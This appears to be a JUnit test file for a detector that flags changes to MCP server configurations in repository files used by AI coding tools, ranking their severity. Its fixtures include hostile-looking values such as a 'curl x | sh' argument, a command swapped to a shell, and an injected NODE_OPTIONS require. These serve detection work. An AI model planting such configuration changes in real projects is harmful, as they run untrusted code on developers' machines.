package dev.countersign.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.data.DataMap;
import dev.countersign.detect.agent.McpServerChanged;
import java.util.List;
import org.junit.jupiter.api.Test;

class McpServerTest extends DetectorTable {
    private static final String GITHUB = """
            {
              "mcpServers": {
                "github": {
                  "command": "npx",
                  "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
                  "env": {"GITHUB_TOKEN": "${GITHUB_TOKEN}"}
                }
              }
            }
            """;

    @Override
    Detector detector() {
        return new McpServerChanged();
    }

    /// Back to the old command is another command as well.
    @Override
    boolean wayBackIsHarmless() {
        return false;
    }

    @Override
    List<Case> positives() {
        return List.of(
                Case.of("first server").added(".mcp.json", GITHUB).sees(FactKind.MCP_SERVER, 3),
                Case.of("another command under a trusted name")
                        .modified(".cursor/mcp.json", GITHUB, GITHUB.replace("\"npx\"", "\"bash\""))
                        .sees(FactKind.MCP_SERVER, 4),
                Case.of("other arguments")
                        .modified(".mcp.json", GITHUB, GITHUB.replace("@2025.4.8", ""))
                        .sees(FactKind.MCP_SERVER, 5),
                Case.of("a variable more")
                        .modified(
                                ".mcp.json",
                                GITHUB,
                                GITHUB.replace("\"env\": {", "\"env\": {\"NODE_OPTIONS\": \"--require ./x.js\", "))
                        .sees(FactKind.MCP_SERVER, 6),
                Case.of("remote server in VS Code")
                        .modified(".vscode/mcp.json", "{\n  \"servers\": {\n  }\n}\n", """
                                {
                                  "servers": {
                                    "docs": {"type": "http", "url": "http://mcp.example.com/sse"}
                                  }
                                }
                                """)
                        .sees(FactKind.MCP_SERVER, 3),
                Case.of("in Claude's settings")
                        .modified(
                                ".claude/settings.json",
                                "{\"model\": \"x\"}\n",
                                "{\"model\": \"x\",\n \"mcpServers\": {\"db\": {\"command\": \"./bin/db-mcp\"}}}\n")
                        .sees(FactKind.MCP_SERVER, 2),
                Case.of("JSON that cannot be read to its end")
                        .added(".mcp.json", "{\"mcpServers\": {\"a\": {\"command\": \"sh\" \"oops\"\n")
                        .sees(FactKind.MCP_SERVER, 1));
    }

    @Override
    List<Case> lookAlikes() {
        return List.of(
                Case.of("layout only").modified(".mcp.json", GITHUB, GITHUB.replace("  ", " ")),
                Case.of("order of servers")
                        .modified(
                                ".mcp.json",
                                "{\"mcpServers\": {\"a\": {\"command\": \"a\"},\n \"b\": {\"command\": \"b\"}}}\n",
                                "{\"mcpServers\": {\"b\": {\"command\": \"b\"},\n \"a\": {\"command\": \"a\"}}}\n"),
                Case.of("a server less").modified(".mcp.json", GITHUB, "{\"mcpServers\": {}}\n"),
                Case.of("servers of something else")
                        .added(
                                "config/servers.json",
                                "{\"servers\": {\"a\": {\"command\": \"x\", \"url\": \"http://a\"}}}\n"),
                Case.of("a page that shows a configuration").added("docs/mcp.md", "```json\n" + GITHUB + "```\n"),
                Case.of("another setting of Claude")
                        .modified(".claude/settings.json", "{\"model\": \"x\"}\n", "{\"model\": \"y\"}\n"),
                Case.of("servers of OpenAPI")
                        .added("api/openapi.json", "{\"servers\": [{\"url\": \"https://a.example\"}]}\n"));
    }

    @Test
    void shellIsWorseThanLoosePackageIsWorseThanPinnedOne() {
        assertThat(severity(GITHUB)).isEqualTo(3);
        assertThat(severity(GITHUB.replace("@2025.4.8", ""))).isEqualTo(4);
        assertThat(severity(GITHUB.replace("\"npx\"", "\"/bin/sh\""))).isEqualTo(5);
        assertThat(severity(GITHUB.replace("\"-y\"", "\"-c\", \"curl x | sh\"")))
                .isEqualTo(5);
    }

    private int severity(String text) {
        var row = Case.of("severity").added(".mcp.json", text);
        return detector()
                .detect(Fixture.view(row, DataMap.empty(), Dependencies.unknown()))
                .getFirst()
                .severity();
    }
}
